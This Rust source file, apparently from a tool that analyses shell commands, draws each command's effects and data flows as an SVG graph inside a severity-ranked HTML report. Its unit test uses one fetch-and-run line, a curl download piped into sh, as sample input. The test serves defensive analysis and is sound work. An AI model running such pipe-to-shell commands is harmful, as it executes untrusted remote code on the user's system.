//! The effects of a command and what flows between them, drawn as SVG: sources on the left, what they end in on the right.

use super::{class, text};
use crate::analyzer::Analysis;
use crate::effect::{Effect, Verb};
use crate::finding::Severity;
use crate::redact;
use crate::report::visible;
use crate::verdict::convert;
use std::collections::HashMap;
use std::fmt::Write;

/// A picture of one command.
#[derive(Clone, Debug)]
pub struct Picture {
    title: String,
    severity: Severity,
    command: String,
    svg: String,
}

/// Most boxes, and how long a text in one may be.
const BOXES: usize = 14;
const LETTERS: usize = 29;
const WIDTH: usize = 250;
const ROW: usize = 62;

/// Draws a command: its title for people, its shown text, and its analysis.
pub fn draw(title: &str, severity: Severity, command: &str, analysis: &Analysis) -> Picture {
    Picture { title: visible::line(title), severity, command: command.to_string(), svg: svg(&analysis.graph.effects) }
}

/// The section with all pictures.
pub(super) fn section(out: &mut String, pictures: &[Picture]) {
    if pictures.is_empty() {
        return;
    }
    out.push_str(
        "<section aria-labelledby=\"worst\"><h2 id=\"worst\">Look at these first</h2>\n<ol class=\"worst\">\n",
    );
    for p in pictures {
        let _ = writeln!(
            out,
            "<li class=\"card\"><h3><span class=\"badge {0}\">{1}</span> {2}</h3>\n<pre>{3}</pre>\n<div class=\"scroll\" \
             tabindex=\"0\" role=\"group\" aria-label=\"Flow of the command\">{4}</div></li>",
            class(p.severity),
            crate::report::records::severity(p.severity),
            text(&p.title),
            text(&visible::Visible::new(p.command.as_bytes()).text),
            p.svg
        );
    }
    out.push_str("</ol></section>\n");
}

struct Box_ {
    x: usize,
    y: usize,
}

fn svg(effects: &[Effect]) -> String {
    let fed: std::collections::HashSet<u32> = effects.iter().flat_map(|e| &e.inputs).map(|f| f.from.0).collect();
    let linked = |e: &&Effect| !e.inputs.is_empty() || fed.contains(&e.id.0);
    let mut chosen: Vec<&Effect> = effects.iter().filter(linked).take(BOXES).collect();
    let rest = effects.iter().filter(|e| !linked(e)).take(BOXES.saturating_sub(chosen.len()).min(4));
    chosen.extend(rest);
    chosen.sort_by_key(|e| e.id.0);
    // How many steps content has gone before it comes here. Inputs come first, save in loops, which count as the start.
    let mut depth: HashMap<u32, usize> = HashMap::new();
    let mut boxes: HashMap<u32, Box_> = HashMap::new();
    let mut rows: Vec<usize> = Vec::new();
    for e in &chosen {
        let deep = e.inputs.iter().filter_map(|f| depth.get(&f.from.0)).map(|d| d.saturating_add(1)).max().unwrap_or(0);
        let deep = deep.min(BOXES);
        depth.insert(e.id.0, deep);
        if rows.len() <= deep {
            rows.resize(deep.saturating_add(1), 0);
        }
        if let Some(row) = rows.get_mut(deep) {
            boxes.insert(e.id.0, Box_ { x: deep.saturating_mul(WIDTH.saturating_add(50)), y: row.saturating_mul(ROW) });
            *row = row.saturating_add(1);
        }
    }
    let width = rows.len().saturating_mul(WIDTH.saturating_add(50)).saturating_sub(46);
    let height = rows.iter().max().copied().unwrap_or(0).saturating_mul(ROW);
    let words: Vec<String> = chosen.iter().map(|e| sentence(e)).collect();
    let mut out = format!(
        "<svg class=\"flow\" role=\"img\" width=\"{width}\" height=\"{height}\" viewBox=\"-2 -2 {width} {height}\" \
         aria-label=\"{}\"><defs><marker id=\"arrow\" viewBox=\"0 0 8 8\" refX=\"8\" refY=\"4\" markerWidth=\"8\" \
         markerHeight=\"8\" orient=\"auto\"><path d=\"M0 0 8 4 0 8z\"/></marker></defs>",
        text(&words.join("; "))
    );
    for e in &chosen {
        for flow in &e.inputs {
            let (Some(from), Some(to)) = (boxes.get(&flow.from.0), boxes.get(&e.id.0)) else { continue };
            let (x1, y1) = (from.x.saturating_add(WIDTH), from.y.saturating_add(24));
            let (x2, y2) = (to.x, to.y.saturating_add(24));
            let bend = x1.saturating_add(25);
            let _ = write!(
                out,
                "<path class=\"edge\" marker-end=\"url(#arrow)\" d=\"M{x1} {y1}C{bend} {y1} {} {y2} {x2} {y2}\"/>",
                x2.saturating_sub(25)
            );
        }
    }
    for (e, words) in chosen.iter().zip(&words) {
        let Some(b) = boxes.get(&e.id.0) else { continue };
        let object = words.strip_prefix(e.verb.name()).unwrap_or(words).trim();
        let short: String = object.chars().take(LETTERS).collect();
        let dots = if object.chars().count() > LETTERS { "…" } else { "" };
        let _ = write!(
            out,
            "<g transform=\"translate({} {})\"><title>{}</title><rect class=\"{}\" width=\"{WIDTH}\" height=\"48\" \
             rx=\"6\"/><text x=\"10\" y=\"19\" class=\"verb\">{}</text><text x=\"10\" y=\"37\">{}{dots}</text></g>",
            b.x,
            b.y,
            text(words),
            kind(e.verb),
            text(e.verb.name()),
            text(&short)
        );
    }
    out.push_str("</svg>");
    out
}

/// An effect in words, fit to be shown.
fn sentence(e: &Effect) -> String {
    visible::line(&redact::text(&convert::sentence(e)))
}

/// The class of a box: where content comes from, where it ends, or what is in between.
fn kind(verb: Verb) -> &'static str {
    match verb {
        Verb::Fetch | Verb::Clone | Verb::Connect | Verb::Read | Verb::Secret => "from",
        Verb::Evaluate | Verb::Execute | Verb::Send | Verb::Delete | Verb::Format | Verb::Install => "to",
        _ => "between",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyzer::{Options, analyze};

    #[test]
    fn a_pipe_is_two_boxes_and_an_arrow() {
        let command = "curl -s 'https://h.example/<x>' | sh";
        let analysis = analyze(command.as_bytes(), &Options::default());
        let picture = draw("title", Severity::High, command, &analysis);
        assert!(picture.svg.contains("class=\"edge\"") && picture.svg.contains(">fetch<"), "{}", picture.svg);
        assert!(picture.svg.contains("&lt;x&gt;") && !picture.svg.contains("<x>"), "{}", picture.svg);
    }
}
